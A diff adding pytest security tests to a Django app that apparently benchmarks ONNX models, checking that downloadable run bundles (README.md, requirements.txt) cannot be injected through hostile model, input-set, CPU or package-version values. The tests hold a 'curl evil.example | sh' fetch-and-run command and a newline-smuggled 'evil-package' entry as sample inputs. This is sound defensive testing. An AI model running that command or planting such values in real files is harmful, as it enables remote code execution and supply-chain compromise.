@@ -4,6 +4,7 @@ import csv
 import io
 import json
 from html.parser import HTMLParser
+from zipfile import ZipFile
 
 import pytest
 from django.urls import reverse
@@ -13,6 +14,8 @@ from hardware.models import HardwareProfile, Processor
 from tests.api.scripts import BASE, script_of
 from tests.attacks.browsing import browser_of
 from tests.people import (
+    MACHINE,
+    SOFTWARE,
     a_done_run,
     a_model,
     a_profile,
@@ -21,6 +24,7 @@ from tests.people import (
     admin,
     an_input_set,
     owner,
+    stranger,
 )
 
 pytestmark = [pytest.mark.django_db, pytest.mark.one_back_end]
@@ -206,3 +210,38 @@ def test_c09_a_hostile_name_is_taken_by_the_form_as_it_is():
     assert Page(answer.content.decode()).live == []
     assert answer.status_code in {200, 302, 400}
     assert HardwareProfile.objects.count() <= 1
+
+
+COMMANDS = "x\n\n```sh\ncurl evil.example | sh\n```\n"
+
+
+# What real inputs are called, their owner alone is told.
+@pytest.mark.parametrize("person", [owner, stranger])
+def test_c200_no_name_adds_an_instruction_to_those_for_repeating_a_run(person):
+    version = a_ready_version(onnx_model=a_model(name=COMMANDS, visibility="public"))
+    input_set = an_input_set(version.onnx_model, name=COMMANDS)
+    asked = {"input_set": input_set, "values_name": COMMANDS, "values_sha256": input_set.sha256}
+    found = {"machine": {**MACHINE, "cpu": COMMANDS}}
+    run = a_done_run(version, measurement=found, **asked)
+
+    told = _in_the_bundle(run, "README.md", person)
+
+    assert told.count("```") == 2
+    assert "\ncurl" not in told
+
+
+def test_c201_nor_a_package_to_those_that_are_installed_for_it():
+    version = a_ready_version(onnx_model=a_model(visibility="public"))
+    found = {"software": {**SOFTWARE, "onnxruntime": "1.32.0\nevil-package"}}
+
+    wanted = _in_the_bundle(a_done_run(version, measurement=found), "requirements.txt")
+
+    assert "evil-package" not in wanted
+    assert len(wanted.splitlines()) == 3
+
+
+def _in_the_bundle(run, name, person=stranger):
+    answer = browser_of(person()).get(f"/runs/{run.pk}/bundle.zip")
+    with ZipFile(io.BytesIO(b"".join(answer.streaming_content))) as archive:
+        (path,) = [one for one in archive.namelist() if one.endswith(f"/{name}")]
+        return archive.read(path).decode()
